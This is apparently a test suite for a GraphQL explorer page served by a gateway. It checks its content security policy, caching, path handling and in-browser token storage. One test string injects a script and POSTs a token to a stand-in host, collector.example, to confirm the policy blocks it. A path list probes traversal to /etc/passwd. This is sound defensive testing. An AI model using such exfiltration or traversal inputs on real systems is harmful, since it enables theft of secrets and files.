// The explorer: what its address serves, and what a person sees in a real browser with the network blocked.

import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { createBuiltSite } from '../../src/server/built-site.js';
import { type Asker, openWorld, type World } from '../world.js';
import { launchChromium, withoutBrowser } from './chromium.js';
import { exchange, send } from './wire.js';

/** Monaco on two busy cores. */
const PATIENCE_MS = 20_000;

// Text, because these tests are typed for Node and not for a page.
const REPORT_VIOLATIONS = `addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
  console.error('policy: ' + violatedDirective + ' ' + blockedURI))`;
const MISBEHAVE = `
  const script = document.createElement('script');
  script.textContent = 'document.title = "taken over"';
  const image = document.createElement('img');
  image.src = 'https://images.example/pixel.png';
  document.body.append(script, image);
  fetch('https://collector.example/', { method: 'POST', body: 'token' }).catch(() => {});
  undefined`;

let world: World;
let reader: Asker;

beforeAll(async () => {
  world = await openWorld();
  const page = await world.page({ title: 'Handbook' });
  await world.page({ title: 'Payroll' });
  reader = await world.connection(['CONTENT_READ', 'USER_READ'], 'Dashboard');
  await world.share(reader, page);
});
afterAll(async () => {
  await world[Symbol.asyncDispose]();
});

describe('/explorer', () => {
  const get = (path: string, headers: Record<string, string> = {}) => send(world.url, { method: 'GET', path, headers });
  const assetsOf = (html: string): string[] =>
    [...html.matchAll(/"(\/explorer\/assets\/[^"]+)"/g)].map(([, at]) => at!);
  const script = async (): Promise<string> =>
    assetsOf((await get('/explorer')).text).find((path) => path.endsWith('.js'))!;

  test('is a page that is never kept, under a policy that lets it speak to this gateway only', async () => {
    const { status, headers, text } = await get('/explorer');
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'content-security-policy':
        "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; " +
        "font-src 'self'; worker-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
    });
    expect(text).toContain('<title>Gatehouse explorer</title>');
    expect(text).not.toMatch(/<script(?![^>]* src=)|\son\w+=|https?:\/\//);
  });

  test('has assets that are kept for good, because their names change with their content', async () => {
    const html = (await get('/explorer')).text;
    expect(assetsOf(html)).not.toEqual([]);
    for (const path of assetsOf(html)) {
      const { status, headers } = await get(path);
      expect({ path, status }).toEqual({ path, status: 200 });
      expect(path).toMatch(/-[\w-]{8}\.\w+$/);
      expect(headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(headers['content-security-policy']).toContain("default-src 'none'"); // a worker goes by its own file's
    }
  });

  test('is sent compressed to whoever accepts that, and as it is to others', async () => {
    const path = await script();
    const plain = (await get(path)).text;
    for (const [accepted, encoding] of [
      ['br;q=0, gzip;q=0.8', 'gzip'],
      ['gzip, deflate, BR', 'br'],
    ] as const) {
      const zipped = await fetch(world.url + path, { headers: { 'accept-encoding': accepted } });
      expect(Object.fromEntries(zipped.headers)).toMatchObject({
        'content-encoding': encoding,
        vary: 'Accept-Encoding',
      });
      expect(Number(zipped.headers.get('content-length'))).toBeLessThan(plain.length / 2);
      expect(await zipped.text()).toBe(plain);
    }
    for (const refusing of ['zstd', 'gzip;q=0', 'gzip;q=0.0, br;q=0.000', 'identity']) {
      expect((await get(path, { 'accept-encoding': refusing })).headers['content-encoding']).toBeUndefined();
    }
  });

  test('answers HEAD like GET without the body', async () => {
    for (const path of ['/explorer', await script()]) {
      const { headers } = await get(path);
      const head = await send(world.url, { method: 'HEAD', path });
      expect(head).toMatchObject({ status: 200, text: '' });
      expect(head.headers['content-length']).toBe(headers['content-length']);
    }
  });

  test('takes no other method', async () => {
    for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS']) {
      const { status, headers } = await send(world.url, { method, path: '/explorer' });
      expect({ method, status, allow: headers.allow }).toEqual({ method, status: 405, allow: 'GET, HEAD' });
    }
  });

  test('has one address; with a slash it leads there', async () => {
    expect(await get('/explorer/')).toMatchObject({ status: 308, headers: { location: '/explorer' } });
    expect((await get('/explorer/index.html')).status).toBe(404);
    expect((await get('/explorers')).status).toBe(404);
  });

  test('ends at its own files', async () => {
    for (const path of [
      '/explorer/assets/',
      '/explorer/assets/none.js',
      '/explorer/assets/../../main.js',
      '/explorer/assets/../../../package.json',
      '/explorer/%2e%2e/main.js',
      '/explorer/..%2fmain.js',
      '/explorer/..\\main.js',
      '/explorer//etc/passwd',
      '/explorer/assets/%00',
      '/explorer/__proto__',
    ]) {
      const answer = await exchange(world.url, `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      expect({ path, line: answer.split('\r\n')[0] }).toEqual({ path, line: 'HTTP/1.1 404 Not Found' });
    }
  });

  test('that was not built says how to build it', async () => {
    const empty = await mkdtemp(join(tmpdir(), 'gatehouse-explorer-'));
    await writeFile(join(empty, 'half.js'), '');
    try {
      for (const directory of [empty, join(empty, 'missing')]) {
        const asked = createBuiltSite({ name: 'explorer', directory }).answer(
          { method: 'GET' } as IncomingMessage,
          {} as ServerResponse,
          '/explorer',
        );
        await expect(asked).rejects.toMatchObject({ status: 404, message: expect.stringContaining('npm run build') });
      }
    } finally {
      await rm(empty, { recursive: true });
    }
  });
});

if (withoutBrowser) test.skip(withoutBrowser);

describe.skipIf(withoutBrowser !== null)('in a browser with every other host blocked', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  /** Requests that wanted to leave, by whatever of the page made them. */
  let abroad: string[];
  /** Console errors, uncaught errors and violations of the policy. */
  let complaints: string[];
  let addresses: string[];

  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });

  beforeEach(async () => {
    abroad = [];
    complaints = [];
    addresses = [];
    context = await browser.newContext({ viewport: { width: 1360, height: 820 } });
    await context.route(
      () => true,
      (route) => {
        const url = route.request().url();
        addresses.push(url);
        if (url.startsWith(`${world.url}/`)) return route.continue();
        abroad.push(url);
        return route.abort();
      },
    );
    await context.addInitScript(REPORT_VIOLATIONS);
    page = await open();
  });
  afterEach(async () => {
    await context.close();
  });

  /** The explorer in another tab of this browser. */
  const open = async (): Promise<Page> => {
    const tab = await context.newPage();
    tab.setDefaultTimeout(PATIENCE_MS);
    tab.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
    tab.on('pageerror', (error) => complaints.push(String(error)));
    await tab.goto(`${world.url}/explorer`);
    return tab;
  };
  const field = () => page.getByLabel('Token', { exact: true });
  const use = async (token: string): Promise<void> => {
    await field().fill(token);
    await page.getByRole('button', { name: 'Use token' }).click();
  };
  const useAnother = () => page.getByRole('button', { name: 'Use another token' }).click();
  const trouble = () => page.locator('p[role=alert]').innerText();
  const workbench = () => page.locator('.graphiql-query-editor .view-line').first().waitFor();
  const editor = (name: 'query' | 'response') => page.locator(`.graphiql-${name}-editor, .graphiql-${name}`);
  const run = () => page.getByRole('button', { name: /^Execute query/ }).click();
  const answer = async (line: string): Promise<void> => {
    await editor('response').locator('.view-line').filter({ hasText: line }).first().waitFor();
  };
  /** The fields of a type, as the documentation lists them. */
  const documented = async (type: string): Promise<string[]> => {
    const show = page.getByRole('button', { name: 'Show Documentation Explorer' });
    if (await show.isVisible()) await show.click();
    await page.locator('.graphiql-doc-explorer-content').getByText(type, { exact: true }).click();
    await page.locator('.graphiql-doc-explorer-title', { hasText: new RegExp(`^${type}$`) }).waitFor();
    return page.locator('.graphiql-doc-explorer-field-name').allInnerTexts();
  };
  /** What completion offers at the end of a document. */
  const offered = async (document: string): Promise<string[]> => {
    await editor('query').click();
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText(document);
    await page.keyboard.press('Control+Space');
    await page.locator('.suggest-widget.visible .monaco-list-row').first().waitFor();
    return page.locator('.suggest-widget.visible .monaco-list-row .label-name').allInnerTexts();
  };
  const quiet = { abroad: [], complaints: [] };

  test('says where a token comes from, and asks nobody but this gateway', async () => {
    await page.getByRole('heading', { name: 'No token yet?' }).waitFor();
    expect(await page.title()).toBe('Gatehouse explorer');
    expect(await page.locator('main').innerText()).toContain('bin/gatehouse connection create');
    await page.waitForLoadState('networkidle');
    expect({ abroad, complaints }).toEqual(quiet);
  });

  test('runs the first query as the connection of the token: what is shared is there, the rest is not', async () => {
    await use(reader.token);
    await workbench();
    expect(await page.locator('header').innerText()).toMatch(/Dashboard in Test\s+CONTENT_READ\s+USER_READ\s/);
    await run();
    await answer('"title": "Handbook"');
    await answer('"totalCount": 1,');
    expect(await editor('response').innerText()).not.toContain('Payroll');
    await page.waitForLoadState('networkidle');
    expect({ abroad, complaints }).toEqual(quiet);
  });

  test('documents and completes the slice of the token, and that of another token once it is used', async () => {
    const people = await world.connection(['CONTENT_READ', 'USER_READ', 'USER_READ_EMAIL']);
    const somebody = '{ users(first: 1) { nodes { ... on Person { ';
    await use(reader.token);
    await workbench();
    let fields = await documented('Person');
    expect(fields).toContain('name');
    expect(fields).not.toContain('email');
    let names = await offered(somebody);
    expect(names).toContain('name');
    expect(names).not.toContain('email');

    await useAnother();
    await use(people.token);
    await workbench();
    fields = await documented('Person');
    expect(fields).toContain('email');
    names = await offered(somebody);
    expect(names).toContain('email');
    expect({ abroad, complaints }).toEqual(quiet);
  });

  test('keeps the token over a reload, in its own tab only, and until it is told to forget', async () => {
    await use(`Authorization: Bearer ${reader.token} `); // as it is copied
    await workbench();
    await page.reload();
    await workbench();
    const tab = await open();
    await tab.getByRole('heading', { name: 'No token yet?' }).waitFor();
    expect(await tab.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).not.toContain('gth_');

    await useAnother();
    await page.reload();
    await page.getByRole('heading', { name: 'No token yet?' }).waitFor();
    expect(await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).not.toContain('gth_');
    expect(addresses.filter((url) => url.includes('gth_'))).toEqual([]);
    expect(await context.cookies()).toEqual([]);
  });

  test('says so when the gateway does not know the token, and opens with the right one', async () => {
    for (const wrong of [`${reader.token}x`, 'gth_int_ünsinn']) {
      await use(wrong);
      expect(await trouble()).toContain('The gateway does not know this token');
      expect(await page.locator('.graphiql-container').count()).toBe(0);
    }
    await use(reader.token);
    await workbench();
    expect(await page.locator('p[role=alert]').count()).toBe(0);
  });

  test('says so when the token ends, and leaves what was typed', async () => {
    const brief = await world.connection(['CONTENT_READ']);
    await use(brief.token);
    await workbench();
    await world.sql('update token set revoked_at = now() where installation_id = $1', [brief.installationId]);
    await run();
    expect(await trouble()).toContain('The gateway does not know this token');
    expect(await editor('query').innerText()).toContain('totalCount');
    await page.reload();
    await page.getByRole('heading', { name: 'No token yet?' }).waitFor();
  });

  test.each([
    ['light', 'rgb(255, 255, 255)'],
    ['dark', 'rgb(33, 42, 59)'],
  ] as const)('is %s when the system is', async (colorScheme, ground) => {
    await page.emulateMedia({ colorScheme });
    const groundOf = (selector: string) =>
      page.evaluate<string>(`getComputedStyle(document.querySelector('${selector}')).backgroundColor`);
    expect(await groundOf('body')).toBe(ground);
    await use(reader.token);
    await workbench();
    expect(await groundOf('.graphiql-container')).toBe(ground);
  });

  test('could not speak to another host, nor run a script put into the page, if it wanted to', async () => {
    await page.evaluate(MISBEHAVE);
    await expect
      .poll(() => complaints.filter((text) => text.startsWith('policy: ')).sort())
      .toEqual([
        'policy: connect-src https://collector.example/',
        'policy: img-src https://images.example/pixel.png',
        'policy: script-src-elem inline',
      ]);
    expect(await page.title()).toBe('Gatehouse explorer');
    expect(abroad).toEqual([]);
  });
});
